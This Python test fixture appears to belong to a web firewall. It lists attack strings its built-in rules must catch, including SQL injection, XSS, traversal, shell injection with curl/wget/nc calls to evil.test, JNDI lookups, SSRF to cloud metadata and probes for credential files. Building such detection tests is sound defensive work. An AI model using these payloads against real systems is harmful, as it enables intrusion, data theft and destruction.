"""Attacks that the built-in rules must find, by rule."""

from urllib.parse import quote


def arg(value):
    return {"uri": f"/search?q={quote(value, safe='')}"}


def path(value):
    return {"uri": value}


def header(value, name="x-api-version"):
    return {"headers": {name: value}}


def agent(value):
    return header(value, "user-agent")


def cookie(value):
    return {"cookies": {"a": value}}


ATTACKS = {
    "sqli-union-select": [
        arg("1 UNION SELECT user,password FROM users"),
        arg("1'/**/union/**/all/**/select 1"),
        arg("1 union(select 1)"),
        cookie("1 UnIoN DISTINCT SeLeCt 1"),
        path("/?id=1%20union%20all%20select%201"),
        path("/?id=1+union+select+1"),
        path("/?id=1%2520union%2520select%25201"),
        path("/?1%20union%20select%201=x"),
    ],
    "sqli-tautology": [
        arg("' or 1=1--"),
        arg("' OR '1'='1"),
        arg('" or "a"="a'),
        arg("') or ('x' = 'x"),
        arg("' || 1=1"),
        arg("x' and 1 < 2"),
        cookie("' or 1=1"),
        cookie('" or 1=1'),
        path("/?id=1%a0or%a01=1"),
    ],
    "sqli-stacked-query": [
        arg("1; DROP TABLE users"),
        arg("1;drop  database x"),
        arg("1; insert into users values(1)"),
        arg("1; update users set admin=1"),
        arg("1; exec xp_cmdshell 'x'"),
        arg("1;\tDELETE FROM users"),
    ],
    "sqli-time-delay": [
        arg("1 and sleep(5)"),
        arg("pg_sleep (10)"),
        arg("benchmark(1000000,md5(1))"),
        arg("1 waitfor delay '0:0:5'"),
        arg("SLEEP('5')"),
    ],
    "xss-script-tag": [
        arg("<script>alert(1)</script>"),
        arg("</ScRiPt >"),
        arg("<script\nsrc=//evil.test>"),
        arg("&lt;script&gt;alert(1)"),
        arg("&#x3c;script>"),
        arg("<scr\0ipt>"),
        agent("<script>1</script>"),
        path("/%253Cscript%253E"),
        path("/?<script>=1"),
    ],
    "xss-event-handler": [
        arg("<img src=x onerror=alert(1)>"),
        arg("<svg/onload=alert(1)>"),
        arg("<body ONLOAD = 'x'>"),
        arg("&lt;img src=x onerror=1"),
        header("<a href='x'onclick=1>", "referer"),
    ],
    "xss-script-url": [
        arg('<a href="javascript:alert(1)">'),
        arg("<iframe src=javascript:alert(1)>"),
        arg("<form action = 'vbscript:x'>"),
        arg("javascript:void(x=1)"),
        arg("javascript:vvv=1"),
        arg("&lt;a href=javascript&#58;alert(1)"),
    ],
    "traversal-dot-dot": [
        arg("../../../../tmp/x"),
        path("/static/../../secret"),
        path("/static/%2e%2e/%2e%2e/secret"),
        path("/static/%252e%252e%252fsecret"),
        path("/static/..%5c..%5csecret"),
        path("/static/..;/manager/html"),
        path("/?file=..\\..\\boot"),
        path("/?file=x/..%00/..%00/y"),
        path("/static/.."),
        path("/static/%2e%2e"),
        path("/static/..;x"),
        arg("x\\.."),
    ],
    "traversal-system-file": [
        arg("/etc/passwd"),
        arg("/ETC/shadow"),
        arg("file:///proc/self/environ"),
        path("/x/%2fetc%2fpasswd"),
    ],
    "traversal-nul-byte": [
        arg("x.php\0.jpg"),
        path("/x%00.html"),
        path("/x%2500.html"),
        path("/?a%00b=1"),
    ],
    "rce-shell-command": [
        arg("x; cat /etc/hostname"),
        arg("x|id"),
        arg("`whoami`"),
        arg("$(curl evil.test)"),
        arg("x && wget http://evil.test"),
        arg("x\n/usr/bin/python3 -c 1"),
        arg("x;/bin/sh"),
        agent("x; ping -c 1 192.0.2.1"),
        cookie("x|nc -e"),
    ],
    "rce-shellshock": [
        agent("() { :; }; echo x"),
        header("() { :;}; /bin/bash -c id"),
        header("(){ x;};"),
        arg("() { ignored; } ; ls"),
    ],
    "injection-jndi-lookup": [
        header("${jndi:ldap://evil.test/a}"),
        agent("${JNDI:rmi://evil.test}"),
        header("${${lower:j}ndi:ldap://evil.test}"),
        header("${${::-j}${::-n}di:rmi://evil.test}"),
        arg("${lower:${jndi:x}}"),
        arg("${env:x:-j}${jndi:x}"),
        path("/%24%7Bjndi:ldap://evil.test%7D"),
    ],
    "injection-php-code": [
        arg("<?php system('x'); ?>"),
        arg("<?= 1 ?>"),
        path("/?-d+allow_url_include%3d1"),
        path("/?auto_prepend_file%3dx"),
    ],
    "ssrf-metadata-service": [
        arg("http://169.254.169.254/latest/meta-data/"),
        arg("http://metadata.google.internal/computeMetadata/v1/"),
        arg("gopher://169.254.169.254:80/_x"),
        arg("http://[fd00:ec2::254]/latest"),
        arg("HTTP://100.100.100.200/"),
    ],
    "scanner-user-agent": [agent("sqlmap/1.7#stable"), agent("Mozilla/5.0 (Nikto/2.5)"), agent("Nuclei - x")],
    "scanner-secret-file": [
        path("/.git/config"),
        path("/app/.env"),
        path("/.env.production"),
        path("/.aws/credentials"),
        path("/.ssh/id_rsa"),
        path("/%2egit/HEAD?x=1"),
        path("/.htpasswd"),
    ],
    "protocol-header-injection": [
        arg("x\r\nSet-Cookie: a=b"),
        arg("x\nLocation: http://evil.test"),
        arg("x\r\n\r\nHTTP/1.1 200 OK"),
        path("/x%0d%0aContent-Length:%200"),
        path("/x%250d%250aset-cookie:a"),
    ],
}
